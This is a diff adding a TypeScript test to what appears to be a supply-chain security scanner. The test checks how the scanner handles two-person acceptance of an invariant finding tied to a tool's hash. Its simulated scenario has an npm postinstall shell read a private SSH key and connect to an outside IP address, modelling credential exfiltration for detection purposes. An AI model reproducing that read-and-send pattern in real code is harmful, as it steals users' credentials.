@@ -98,6 +98,38 @@ test('the audit log says within or outside instead of a number, and outside for 
   );
 });
 
+test('two people may accept an invariant for the bytes of a tool: it fails nothing then, and scores as before', () => {
+  const digest = 'ab'.repeat(32);
+  const stolen = (config: Record<string, unknown>) => {
+    const tools = [{ path: '/usr/bin/dash', sha256: digest, from: [0] }];
+    const world = new Scenario({
+      config,
+      packages: { '/w': 'project', '/w/node_modules/p': 'p' },
+      recording: { tools },
+    });
+    const npm = world.run('npm install');
+    const shell = npm.starts('sh -c x', { cwd: '/w/node_modules/p', env: { npm_lifecycle_event: 'postinstall' } });
+    shell.read('/home/u/.ssh/id_ed25519').connect('203.0.113.7', 443);
+    return world.judge().document;
+  };
+  const before = stolen({});
+  const found = before.findings.filter(({ kind }) => kind === 'invariant');
+  assert.ok(found.length > 0);
+  const accept = (sha256: string) =>
+    found.map(({ id, rolePath, step }) => {
+      const second = { owner: '@other', sha256 };
+      return { ...day, finding: id, tool: rolePath.at(-1)?.name, step: step.key, second };
+    });
+  const after = stolen({ accept: accept(digest) });
+  assert.equal(before.decision, 'fail');
+  assert.equal(after.decision, 'pass');
+  assert.equal(after.risk.score, before.risk.score);
+  assert.deepEqual(after.findings.find(({ kind }) => kind === 'invariant')?.accepted, { ...day, second: '@other' });
+  assert.equal(stolen({ accept: accept('cd'.repeat(32)) }).decision, 'fail', 'the bytes are others');
+  const alone = accept(digest).map(({ second: _, ...entry }) => entry);
+  assert.equal(stolen({ accept: alone }).decision, 'fail', 'nobody accepts it alone');
+});
+
 test('an acceptance holds for an act and not for an invariant', () => {
   const id = fetched(rights).finding('create-tmp').id;
   const { document } = fetched({ ...rights, accept: [{ finding: id, ...day }] });
